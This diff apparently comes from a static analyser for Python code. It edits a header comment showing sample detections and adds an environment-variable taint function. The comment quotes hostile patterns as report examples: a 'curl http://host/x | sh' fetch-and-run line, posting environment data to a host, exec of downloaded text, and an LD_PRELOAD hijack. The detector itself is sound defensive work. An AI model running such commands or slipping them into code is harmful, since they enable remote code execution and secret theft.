@@ -13,7 +13,8 @@
  *   process os.system "curl http://host/x | sh" @module
  *   send requests.post "https://host/", json=?<env,host> @func
  *   eval exec requests.get().text<net> @module
- *   call os.chmod "/tmp/x"<temp>, 511 @func hidden     (the name was put together at run time)
+ *   call os.chmod "/tmp/x"<temp>, 511 @func hidden     (the name was looked up at run time)
+ *   call x.run y @func obscured hidden                 (and was encoded before)
  *   assign os.environ["LD_PRELOAD"] "/tmp/x.so" @module
  *   text "https://host/api" @module
  *   file python blob exec net            (what was found in the whole file, sorted)
@@ -347,6 +348,7 @@ struct code_val code_percent(
 	struct code_walk *w, const struct code_val *f, const struct code_val *args);
 int code_digit(char c); /* hexadecimal, or -1 */
 uint32_t code_taint_of_text(const char *s, size_t len);
+uint32_t code_taint_of_variable(const char *name); /* of the environment */
 
 /* render.c */
 void code_event(struct code_walk *w, const char *verb, const char *name,
